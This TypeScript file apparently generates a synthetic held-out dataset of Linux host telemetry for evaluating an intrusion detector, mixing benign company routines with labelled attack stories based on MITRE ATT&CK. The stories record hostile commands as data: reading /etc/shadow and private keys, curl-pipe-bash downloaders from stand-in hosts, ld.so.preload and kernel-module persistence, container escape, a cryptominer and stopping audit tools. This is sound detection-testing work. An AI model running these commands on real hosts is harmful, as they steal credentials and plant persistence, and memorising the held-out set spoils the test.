import {
  at,
  daemons,
  developer,
  isWeekend,
  nightlyBackup,
  operator,
  pick,
  postgres,
  unpackPackage,
  webEdge,
  weekday,
  weeklyDba,
  weeklyDeploy,
} from './routines';
import { companyHost, playStories, type StorySet, type StorySetOptions } from './company';
import type { Story, StoryInfo } from './stories';
import { DAY, HOUR, Host, splitLabelled, xorshift, type Row } from './world';

// The held-out story set (`--stories heldout`): written after the scorer had been tuned on the
// independent set (stories.ts) for several sessions, without reading the scorer's models or
// features, so that its figures say how detection carries over to attacks and hosts no one
// tuned for. The company is the same (same routines, same three hosts) plus two hosts the
// scorer has never been run on: a bastion that admins hop through to internal machines, and
// a build host where a CI service account runs docker containers all day. The edge host, being
// on the internet, also sees the background of SSH password guesses every public host gets.
// The attacks follow public MITRE ATT&CK descriptions for Linux; the benign novelties are the
// changes a real company goes through (an upgrade, a new hire, a new backup job, a holiday).

type Rand = () => number;

/** the internal machines admins reach from the bastion, each admin with their usual few */
const INTERNAL = ['10.40.2.7', '10.40.2.11', '10.40.2.20', '10.40.2.21', '10.40.2.30'];

/**
 * The bastion: on working days one or two admins log in from their workstations and hop to
 * the one to three internal hosts they look after; now and then they list their agent's keys
 * or reattach a tmux session.
 */
export function jumpHost(h: Host, day: number, r: Rand, holiday: boolean): void {
  if (isWeekend(day)) return;
  const admins: Array<[string, string, string[]]> = [
    ['ops', '10.40.8.44', ['10.40.2.11', '10.40.2.20']],
    ['kim', '10.40.8.52', ['10.40.2.7', '10.40.2.21', '10.40.2.30']],
    ['omar', '10.40.8.37', ['10.40.2.7']],
  ];
  for (const [who, from, usual] of admins) {
    // the DBA hops to the database on Mondays; the others most working days, fewer on a holiday
    const works = who === 'omar' ? weekday(day) === 1 : r() < (holiday ? 0.3 : 0.8);
    if (!works) continue;
    const start = at(day, 9, r, 120);
    h.login(start, who, from);
    const shell = h.session(start, who);
    const hops = 1 + Math.floor(r() * usual.length);
    for (let i = 0; i < hops; i++) {
      const t = start + 30 + i * (300 + Math.floor(r() * 3600));
      const target = pick(r, usual);
      const ssh = h.exec(t, who, '/usr/bin/ssh', `ssh ${target}`, shell);
      h.connect(t + 1, ssh, '/usr/bin/ssh', h.account(who).uid, target, 22);
      if (r() < 0.7) h.history(t, who, `ssh ${target}`);
    }
    if (r() < 0.3) h.exec(start + 10, who, '/usr/bin/ssh-add', 'ssh-add -l', shell);
    if (r() < 0.4) h.exec(start + 5, who, '/usr/bin/tmux', 'tmux attach -t main', shell);
  }
}

/**
 * The build host: the CI runner's service account starts a container per job (docker run,
 * containerd's shim, the build inside as container root); a few jobs on weekends, fewer on a
 * holiday. The developer logs in on Tuesdays to clean up images.
 */
export function ciBuilds(h: Host, day: number, r: Rand, holiday: boolean): void {
  h.listen(day + 60, '820', 9252, '127.0.0.1');
  const jobs = isWeekend(day) ? 1 + Math.floor(r() * 3) : holiday ? 3 + Math.floor(r() * 4) : 12 + Math.floor(r() * 15);
  const images: Array<[string, string, string]> = [
    ['golang:1.22', '/usr/local/go/bin/go', 'go test ./...'],
    ['golang:1.22', '/usr/local/go/bin/go', 'go vet ./...'],
    ['node:20-slim', '/usr/local/bin/npm', 'npm ci'],
    ['node:20-slim', '/usr/local/bin/node', 'node scripts/lint.js'],
    ['alpine:3.19', '/bin/sh', 'sh -c ./ci/package.sh'],
  ];
  for (let j = 0; j < jobs; j++) {
    const t = isWeekend(day) ? day + Math.floor(r() * DAY) : at(day, 8, r, 11 * 60);
    const [image, exe, cmd] = pick(r, images);
    const poll = h.exec(t, 'gitlab-runner', '/usr/bin/gitlab-runner', 'gitlab-runner run --working-directory /home/gitlab-runner', '820');
    h.connect(t, poll, '/usr/bin/gitlab-runner', h.account('gitlab-runner').uid, '10.40.0.5', 443);
    const docker = h.exec(t + 1, 'gitlab-runner', '/usr/bin/docker', `docker run --rm -v /builds/runner:/builds -w /builds ${image} ${cmd}`, '820', {
      cwd: '/home/gitlab-runner',
    });
    if (r() < 0.3) h.connect(t + 2, docker, '/usr/bin/docker', h.account('gitlab-runner').uid, pick(r, ['104.18.121.25', '104.18.122.25']), 443);
    const id = Math.floor(r() * 0xffffffff)
      .toString(16)
      .padStart(8, '0');
    const shim = h.exec(
      t + 3,
      null,
      '/usr/bin/containerd-shim-runc-v2',
      `/usr/bin/containerd-shim-runc-v2 -namespace moby -id ${id} -address /run/containerd/containerd.sock`,
      '1',
    );
    h.exec(t + 4, null, exe, cmd, shim, { cwd: '/builds' });
  }
  if (weekday(day) === 2) {
    const start = at(day, 14, r, 60);
    h.login(start, 'dana', '10.40.8.21');
    const shell = h.session(start, 'dana');
    for (const cmd of ['docker ps -a', 'docker image ls', 'docker system prune -f', 'df -h /var/lib/docker']) {
      const t = start + 20 + Math.floor(r() * 300);
      h.exec(t, 'dana', cmd.startsWith('df') ? '/usr/bin/df' : '/usr/bin/docker', cmd, shell);
      h.history(t, 'dana', cmd);
    }
  }
}

/**
 * The background of the internet: scanners guess SSH passwords on every public host, a few
 * tries a day from addresses never seen again, mostly for root or accounts that do not exist
 * (sshd names the unprivileged child `unknown` then). No login follows.
 */
export function sshScanners(h: Host, day: number, r: Rand): void {
  const tries = Math.floor(r() * 5);
  for (let i = 0; i < tries; i++) {
    const t = day + Math.floor(r() * DAY);
    const from = `${pick(r, ['45.148', '61.177', '103.99', '185.220', '218.92'])}.${Math.floor(r() * 250) + 1}.${Math.floor(r() * 250) + 1}`;
    h.accept(t, h.sshdPid, '/usr/sbin/sshd', from, 22);
    h.exec(t, null, '/usr/sbin/sshd', `sshd: ${pick(r, ['root', 'unknown', 'unknown'])} [priv]`, h.sshdPid);
  }
}

export const HELDOUT_ATTACKS: Story[] = [
  {
    id: 'credential-access',
    title: "credential access (T1003.008, T1552.004): the developer's account reads /etc/shadow and hunts for private keys at night",
    host: 'ci-runner-3',
    day: 0,
    play(h, t) {
      const s = { story: this.id };
      // stolen credentials used from the developer's own VPN address: only the hour and the acts differ
      h.login(t, 'dana', '10.40.8.21', s);
      const shell = h.session(t, 'dana', s);
      const sudo = h.exec(t + 20, 'dana', '/usr/bin/sudo', 'sudo cat /etc/shadow', shell, { euid: '0', ...s });
      h.exec(t + 21, 'dana', '/usr/bin/cat', 'cat /etc/shadow', sudo, { uid: '0', euid: '0', ...s });
      h.history(t + 20, 'dana', 'sudo cat /etc/shadow', s);
      h.exec(t + 45, 'dana', '/usr/bin/find', 'find / -name id_rsa -o -name id_ed25519 -o -name *.pem', shell, { cwd: '/home/dana', ...s });
      h.history(t + 45, 'dana', 'find / -name id_rsa -o -name id_ed25519 -o -name "*.pem" 2>/dev/null', s);
      const sudo2 = h.exec(t + 90, 'dana', '/usr/bin/sudo', 'sudo cat /root/.ssh/id_rsa', shell, { euid: '0', ...s });
      h.exec(t + 91, 'dana', '/usr/bin/cat', 'cat /root/.ssh/id_rsa', sudo2, { uid: '0', euid: '0', ...s });
    },
  },
  {
    id: 'ld-preload',
    title: 'dynamic linker hijacking (T1574.006): a library fetched and written to /etc/ld.so.preload',
    host: 'edge-web',
    day: 0,
    play(h, t) {
      const s = { story: this.id };
      const shell = h.session(t, 'root', s);
      const lib = '/usr/lib/x86_64-linux-gnu/libnss_dns2.so';
      const curl = h.exec(t + 15, 'root', '/usr/bin/curl', `curl -so ${lib} http://203.0.113.50/l.so`, shell, s);
      h.connect(t + 16, curl, '/usr/bin/curl', '0', '203.0.113.50', 80, s);
      h.file(t + 17, lib, 'CREATED', { category: 'libraries', ...s });
      h.exec(t + 30, 'root', '/bin/sh', `sh -c echo ${lib} > /etc/ld.so.preload`, shell, s);
      h.file(t + 30, '/etc/ld.so.preload', 'CREATED', s);
      // the next program any account starts loads it; the attacker checks that it does
      h.exec(t + 40, 'root', '/usr/bin/ldd', 'ldd /bin/ls', shell, s);
    },
  },
  {
    id: 'sudoers',
    title: 'sudo abuse (T1548.003): a root session from the bastion gives the backup account passwordless sudo, which it then uses',
    host: 'pg-main',
    day: 0,
    play(h, t) {
      const s = { story: this.id };
      h.login(t, 'root', '10.40.0.12', s);
      const shell = h.session(t, 'root', s);
      h.exec(t + 12, 'root', '/usr/bin/tee', 'tee /etc/sudoers.d/90-backup-restore', shell, s);
      h.file(t + 12, '/etc/sudoers.d/90-backup-restore', 'CREATED', s);
      h.exec(t + 14, 'root', '/usr/bin/chmod', 'chmod 440 /etc/sudoers.d/90-backup-restore', shell, s);
      h.exec(t + 16, 'root', '/usr/sbin/visudo', 'visudo -c', shell, s);
      // hours later, next to the nightly job, the backup account takes a root shell
      const t2 = t + 5 * HOUR;
      const sh = h.exec(t2, 'backup', '/bin/bash', 'bash -i', '1', { cwd: '/var/backups', ...s });
      const sudo = h.exec(t2 + 10, 'backup', '/usr/bin/sudo', 'sudo -n /bin/bash', sh, { euid: '0', cwd: '/var/backups', ...s });
      h.exec(t2 + 11, 'backup', '/bin/bash', '/bin/bash', sudo, { uid: '0', euid: '0', cwd: '/var/backups', ...s });
    },
  },
  {
    id: 'kernel-module',
    title: 'kernel module persistence (T1547.006): a module fetched to /tmp and loaded with insmod',
    host: 'ci-runner-3',
    day: 1,
    play(h, t) {
      const s = { story: this.id };
      const shell = h.session(t, 'root', s);
      const ko = '/tmp/.ICE-unix/nf_conntrack_ipv5.ko';
      const wget = h.exec(t + 10, 'root', '/usr/bin/wget', `wget -q http://198.51.100.23/nf.ko -O ${ko}`, shell, { cwd: '/tmp', ...s });
      h.connect(t + 11, wget, '/usr/bin/wget', '0', '198.51.100.23', 80, s);
      h.file(t + 12, ko, 'CREATED', { category: 'tmp', ...s });
      // insmod and lsmod are kmod under another name: the audit record carries the real binary
      h.exec(t + 20, 'root', '/usr/bin/kmod', `insmod ${ko}`, shell, { cwd: '/tmp', ...s });
      h.exec(t + 25, 'root', '/usr/bin/kmod', 'lsmod', shell, { cwd: '/tmp', ...s });
      h.exec(t + 30, 'root', '/usr/bin/rm', `rm -f ${ko}`, shell, { cwd: '/tmp', ...s });
      h.file(t + 30, ko, 'DELETED', { category: 'tmp', ...s });
    },
  },
  {
    id: 'container-escape',
    title: "escape to host (T1611): a poisoned CI job runs a privileged container with the host's root mounted and plants a key",
    host: 'build-2',
    day: 0,
    play(h, t) {
      const s = { story: this.id };
      // the runner polling for the job is its usual self: not labelled
      h.exec(t, 'gitlab-runner', '/usr/bin/gitlab-runner', 'gitlab-runner run --working-directory /home/gitlab-runner', '820');
      h.exec(t + 1, 'gitlab-runner', '/usr/bin/docker', 'docker run --rm --privileged -v /:/host alpine:3.19 chroot /host sh', '820', {
        cwd: '/home/gitlab-runner',
        ...s,
      });
      const shim = h.exec(
        t + 3,
        null,
        '/usr/bin/containerd-shim-runc-v2',
        '/usr/bin/containerd-shim-runc-v2 -namespace moby -id 5f0c2e9a -address /run/containerd/containerd.sock',
        '1',
        s,
      );
      const chroot = h.exec(t + 4, null, '/usr/sbin/chroot', 'chroot /host sh', shim, s);
      const sh = h.exec(t + 4, null, '/bin/sh', 'sh', chroot, s);
      h.exec(t + 6, null, '/bin/sh', 'sh -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK... >> /root/.ssh/authorized_keys', sh, s);
      h.file(t + 6, '/root/.ssh/authorized_keys', 'UPDATED', s);
      h.exec(t + 8, null, '/usr/bin/cat', 'cat /etc/shadow', sh, s);
    },
  },
  {
    id: 'lateral-movement',
    title: "lateral movement over SSH (T1021.004): an admin's account on the bastion reaches fourteen internal hosts in two minutes",
    host: 'bastion-1',
    day: 1,
    play(h, t) {
      const s = { story: this.id };
      // kim's credentials, from kim's own workstation address, in working hours
      h.login(t, 'kim', '10.40.8.52', s);
      const shell = h.session(t, 'kim', s);
      const targets = [...INTERNAL, '10.40.2.12', '10.40.2.13', '10.40.2.40', '10.40.2.41', '10.40.3.5', '10.40.3.6', '10.40.3.7', '10.40.3.8', '10.40.3.9'];
      targets.forEach((target, i) => {
        const tt = t + 30 + i * 8;
        const ssh = h.exec(tt, 'kim', '/usr/bin/ssh', `ssh -o BatchMode=yes -o ConnectTimeout=3 ${target} hostname`, shell, s);
        h.connect(tt + 1, ssh, '/usr/bin/ssh', h.account('kim').uid, target, 22, s);
      });
    },
  },
  {
    id: 'brute-force',
    title:
      "brute force then valid account (T1110.001, T1078): password guesses for the operator's account from one address, then its login and a fetched script",
    host: 'edge-web',
    day: 0,
    play(h, t) {
      const s = { story: this.id };
      const from = '203.0.113.200';
      for (let i = 0; i < 10; i++) {
        const tt = t + i * 17;
        h.accept(tt, h.sshdPid, '/usr/sbin/sshd', from, 22, s);
        h.exec(tt, null, '/usr/sbin/sshd', 'sshd: ops [priv]', h.sshdPid, s);
      }
      const t2 = t + 10 * 17 + 5;
      h.accept(t2, h.sshdPid, '/usr/sbin/sshd', from, 22, s);
      h.login(t2 + 1, 'ops', from, s);
      const shell = h.session(t2 + 1, 'ops', s);
      h.exec(t2 + 30, 'ops', '/usr/bin/w', 'w', shell, s);
      const curl = h.exec(t2 + 50, 'ops', '/usr/bin/curl', `curl -s http://${from}:8000/i.sh -o /tmp/i.sh`, shell, { cwd: '/home/ops', ...s });
      h.connect(t2 + 51, curl, '/usr/bin/curl', h.account('ops').uid, from, 8000, s);
      h.exec(t2 + 60, 'ops', '/bin/bash', 'bash /tmp/i.sh', shell, { cwd: '/home/ops', ...s });
    },
  },
  {
    id: 'cryptominer',
    title: 'resource hijacking (T1496): the database daemon runs a downloader that starts a miner, which keeps reconnecting to its pool',
    host: 'pg-main',
    day: 0,
    play(h, t) {
      const s = { story: this.id };
      // a backend made to run a program (COPY ... FROM PROGRAM): the backend itself is routine
      const backend = h.exec(t, 'postgres', '/usr/lib/postgresql/15/bin/postgres', 'postgres: app appdb 10.40.2.11(51234) idle', '701', {
        cwd: '/var/lib/postgresql/15/main',
      });
      const cwd = { cwd: '/var/lib/postgresql/15/main', ...s };
      const sh = h.exec(t + 1, 'postgres', '/bin/sh', 'sh -c curl -s http://198.51.100.61/ldr.sh | bash', backend, cwd);
      const curl = h.exec(t + 1, 'postgres', '/usr/bin/curl', 'curl -s http://198.51.100.61/ldr.sh', sh, cwd);
      h.connect(t + 2, curl, '/usr/bin/curl', h.account('postgres').uid, '198.51.100.61', 80, s);
      const bash = h.exec(t + 2, 'postgres', '/bin/bash', 'bash', sh, cwd);
      h.file(t + 5, '/var/tmp/.x/kthreaddk', 'CREATED', { category: 'tmp', ...s });
      const miner = h.exec(
        t + 8,
        'postgres',
        '/var/tmp/.x/kthreaddk',
        'kthreaddk -o 198.51.100.90:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV -k --cpu-max-threads-hint 90 -B',
        bash,
        cwd,
      );
      h.exec(t + 9, 'postgres', '/usr/bin/crontab', 'crontab -', bash, cwd);
      h.file(t + 9, '/var/spool/cron/crontabs/postgres', 'CREATED', s);
      // a miner holds one connection; the pool drops idle or stale ones every few hours
      for (let k = 0; k < 6; k++) h.connect(t + 10 + k * 3 * HOUR, miner, '/var/tmp/.x/kthreaddk', h.account('postgres').uid, '198.51.100.90', 3333, s);
    },
  },
  {
    id: 'discovery-burst',
    title: "system discovery (T1033, T1082, T1087.001, T1057, T1049): the DBA's account runs six discovery commands in forty seconds, on a Wednesday",
    host: 'pg-main',
    day: 1,
    play(h, t) {
      const s = { story: this.id };
      h.login(t, 'omar', '10.40.8.37', s);
      const shell = h.session(t, 'omar', s);
      const cmds: Array<[string, string]> = [
        ['/usr/bin/whoami', 'whoami'],
        ['/usr/bin/id', 'id'],
        ['/usr/bin/uname', 'uname -a'],
        ['/usr/bin/cat', 'cat /etc/passwd'],
        ['/usr/bin/ps', 'ps aux'],
        ['/usr/bin/netstat', 'netstat -antp'],
      ];
      cmds.forEach(([exe, cmd], i) => {
        h.exec(t + 10 + i * 7, 'omar', exe, cmd, shell, s);
        h.history(t + 10 + i * 7, 'omar', cmd, s);
      });
    },
  },
  {
    id: 'disable-security-tools',
    title: 'impair defenses (T1562.001): the deploy account, on a Wednesday night, stops auditd and then osqueryd (the host logs nothing after)',
    host: 'edge-web',
    day: 1,
    play(h, t) {
      const s = { story: this.id };
      h.login(t, 'deploy', '10.40.0.3', s);
      const sshd = h.exec(t, 'root', '/usr/sbin/sshd', 'sshd: deploy [priv]', h.sshdPid, s);
      const sh = h.exec(t + 1, 'deploy', '/bin/bash', '-bash', sshd, { cwd: '/srv/deploy', ...s });
      for (const [i, cmd] of ['systemctl stop auditd', 'systemctl disable auditd', 'systemctl stop osqueryd'].entries()) {
        const tt = t + 20 + i * 6;
        const sudo = h.exec(tt, 'deploy', '/usr/bin/sudo', `sudo ${cmd}`, sh, { euid: '0', cwd: '/srv/deploy', ...s });
        h.exec(tt + 1, 'deploy', '/usr/bin/systemctl', cmd, sudo, { uid: '0', euid: '0', cwd: '/srv/deploy', ...s });
      }
      // osqueryd's stop is the last thing it logs
      h.silencedFrom = t + 20 + 2 * 6 + 2;
    },
  },
];

export const HELDOUT_NOVELTIES: Story[] = [
  {
    id: 'package-upgrade',
    title: 'the operator upgrades the packages of the web edge (apt-get, dpkg and maintainer scripts as children)',
    host: 'edge-web',
    day: 0,
    play(h, t, r) {
      const n = { novelty: this.id };
      const root = { uid: '0', euid: '0', cwd: '/', ...n };
      const shell = h.session(t, 'ops', n);
      h.history(t + 5, 'ops', 'sudo apt-get upgrade -y', n);
      const sudo = h.exec(t + 5, 'ops', '/usr/bin/sudo', 'sudo apt-get upgrade -y', shell, { euid: '0', ...n });
      const apt = h.exec(t + 6, 'ops', '/usr/bin/apt-get', 'apt-get upgrade -y', sudo, root);
      for (const [i, mirror] of ['91.189.91.39', '151.101.2.132'].entries()) {
        const m = h.exec(t + 7 + i, 'ops', '/usr/lib/apt/methods/http', '/usr/lib/apt/methods/http', apt, root);
        h.connect(t + 8 + i, m, '/usr/lib/apt/methods/http', '0', mirror, 80, n);
      }
      const packages = ['libssl3', 'openssl', 'nginx-common', 'nginx', 'php8.2-fpm', 'tzdata'];
      let tt = t + 40;
      for (const p of packages) {
        unpackPackage(h, tt, 'ops', p, apt, root, { statusFd: 35, configureAfter: 3 });
        tt += 6 + Math.floor(r() * 5);
      }
      const trig = h.exec(tt, 'ops', '/usr/bin/dpkg', '/usr/bin/dpkg --status-fd 35 --configure --pending', apt, root);
      h.exec(tt + 1, 'ops', '/sbin/ldconfig', '/sbin/ldconfig', trig, root);
      h.file(tt + 1, '/etc/ld.so.cache', 'UPDATED', n);
      h.exec(tt + 2, 'ops', '/usr/bin/mandb', '/usr/bin/mandb --quiet', trig, root);
      h.exec(tt + 3, 'ops', '/usr/bin/systemctl', 'systemctl daemon-reload', trig, root);
      const inv = h.exec(tt + 4, 'ops', '/usr/sbin/invoke-rc.d', '/usr/sbin/invoke-rc.d nginx restart', trig, root);
      h.exec(tt + 5, 'ops', '/usr/bin/systemctl', 'systemctl restart nginx.service', inv, root);
      h.exec(tt + 6, 'ops', '/usr/bin/systemctl', 'systemctl restart php8.2-fpm.service', trig, root);
      h.file(tt + 7, '/etc/php/8.2/fpm/php.ini', 'UPDATED', n);
    },
  },
  {
    id: 'new-developer',
    title: 'a developer joins: the account is provisioned by configuration management, then logs in from a new workstation and runs the team tools',
    host: 'ci-runner-3',
    day: 0,
    play(h, t, r) {
      const n = { novelty: this.id };
      const py = h.exec(t, 'root', '/usr/bin/python3', 'python3 /root/.ansible/tmp/ansible-tmp-1/AnsiballZ_user.py', '1', n);
      h.exec(t + 1, 'root', '/usr/sbin/useradd', 'useradd -m -s /bin/bash -G docker lee', py, n);
      h.file(t + 1, '/etc/passwd', 'UPDATED', n);
      h.file(t + 1, '/etc/group', 'UPDATED', n);
      const day = t - (t % DAY);
      tagged(h, this.id, () => {
        developer(h, day, r, 'lee', { from: '10.40.8.63', startHour: 10 });
        developer(h, day + DAY, r, 'lee', { from: '10.40.8.63' });
      });
    },
  },
  {
    id: 'first-backup-run',
    title: "the bastion is added to the nightly backup: its cron file appears in the afternoon, the job's first run is that night",
    host: 'bastion-1',
    day: 0,
    play(h, t, r) {
      const n = { novelty: this.id };
      h.exec(t, 'root', '/usr/bin/python3', 'python3 /root/.ansible/tmp/ansible-tmp-2/AnsiballZ_copy.py', '1', n);
      h.file(t + 1, '/etc/cron.d/nightly-backup', 'CREATED', n);
      h.file(t + 1, '/usr/local/sbin/nightly-backup', 'CREATED', n);
      const night = t - (t % DAY) + DAY;
      tagged(h, this.id, () => nightlyBackup(h, night, r, '/etc /home'));
    },
  },
];

/** the rows `play` adds to the host are a benign novelty's */
function tagged(h: Host, novelty: string, play: () => void): void {
  const from = h.rows.length;
  play();
  for (const row of h.rows.slice(from)) row.novelty ??= novelty;
}

/** hour of the test day each story is played at */
const STORY_HOURS: Record<string, number> = {
  'credential-access': 23,
  'ld-preload': 2,
  sudoers: 21,
  'kernel-module': 3,
  'container-escape': 13,
  'lateral-movement': 13,
  'brute-force': 4,
  cryptominer: 15,
  'discovery-burst': 10,
  'disable-security-tools': 22,
  'package-upgrade': 10,
  'new-developer': 7,
  'first-backup-run': 15,
};

/** the holiday: the last five training days and both labelled days see less work */
const HOLIDAY_DAYS = 7;
export const HOLIDAY = 'holiday-week';

export interface HeldoutOptions extends StorySetOptions {
  /**
   * the internet's SSH password guesses on the edge host (default: yes, as on any public
   * host); off only to measure what that background costs the edge host's detection
   */
  scanners?: boolean;
}

export function generateHeldout(opts: HeldoutOptions): StorySet {
  if (opts.days < HOLIDAY_DAYS + 1) throw new Error(`the held-out set needs at least ${HOLIDAY_DAYS + 1} days`);
  // a different stream from the independent set's for the same seed: nothing lines up by accident
  const r = xorshift(opts.seed * 7919 + 17);
  const ci = companyHost('ci-runner-3', r);
  const pg = companyHost('pg-main', r);
  const web = companyHost('edge-web', r);
  const bastion = companyHost('bastion-1', r);
  const build = new Host(
    'build-2',
    [
      { name: 'root', uid: '0', home: '/root' },
      { name: 'dana', uid: '1001', home: '/home/dana' },
      { name: 'gitlab-runner', uid: '996', home: '/home/gitlab-runner', service: true },
    ],
    r,
  );
  const hosts = [ci, pg, web, bastion, build];
  const firstTest = opts.days - 2;
  const holidayFrom = opts.days - HOLIDAY_DAYS;
  const scannerRows = new Set<Row>();
  for (let d = 0; d < opts.days; d++) {
    const day = opts.start + d * DAY;
    const holiday = d >= holidayFrom;
    // on the labelled days the holiday's reduced routine is the novelty being judged
    const lessWork = (h: Host, play: () => void) => (holiday && d >= firstTest ? tagged(h, HOLIDAY, play) : play());
    // the accounts the novelties provision on the first labelled day are in the next day's
    // `users` snapshot, as they would be on a real host
    if (d === firstTest + 1) {
      ci.accounts.push({ name: 'lee', uid: '1004', home: '/home/lee' });
      bastion.accounts.push({ name: 'backup', uid: '998', home: '/var/backups' });
    }
    for (const h of hosts) daemons(h, day, r);
    nightlyBackup(ci, day, r, '/srv/ci');
    nightlyBackup(pg, day, r, '/var/lib/postgresql/15/main');
    // on a holiday the developer comes in one day in three, late
    lessWork(ci, () => (!holiday || r() < 0.35 || d === firstTest + 1 ? developer(ci, day, r, 'dana', holiday ? { startHour: 11 } : {}) : undefined));
    weeklyDba(pg, day, r, 'omar');
    postgres(pg, day, r);
    webEdge(web, day, r);
    const before = web.rows.length;
    sshScanners(web, day, r);
    for (const row of web.rows.slice(before)) scannerRows.add(row);
    operator(web, day, r, 'ops');
    weeklyDeploy(web, day, r);
    lessWork(bastion, () => jumpHost(bastion, day, r, holiday));
    lessWork(build, () => ciBuilds(build, day, r, holiday));
  }
  const byName = new Map(hosts.map((h) => [h.name, h]));
  playStories([...HELDOUT_NOVELTIES, ...HELDOUT_ATTACKS], STORY_HOURS, (s) => byName.get(s.host)!, opts.start + firstTest * DAY, r);
  // without the scanners the company is the same, row for row (the random stream ran through
  // them all the same), less the scanners' rows: what the background costs, and nothing else
  if (!(opts.scanners ?? true)) web.rows.splice(0, web.rows.length, ...web.rows.filter((row) => !scannerRows.has(row)));
  // the next day's `users` snapshot listing a provisioned account is that novelty's doing too
  for (const [h, account, novelty] of [
    [ci, 'lee', 'new-developer'],
    [bastion, 'backup', 'first-backup-run'],
  ] as const)
    for (const row of h.rows) if (row.query === 'pack_hids_users' && row.columns.username === account) row.novelty = novelty;
  const split = splitLabelled(hosts, opts.start + firstTest * DAY);
  const holiday: StoryInfo = {
    id: HOLIDAY,
    title:
      "a holiday week: the developer in one day in three and late, fewer hops through the bastion, fewer builds (the labelled days' rows of these routines)",
    host: 'ci-runner-3, bastion-1, build-2',
  };
  return { ...split, stories: HELDOUT_ATTACKS, novelties: [...HELDOUT_NOVELTIES, holiday] };
}
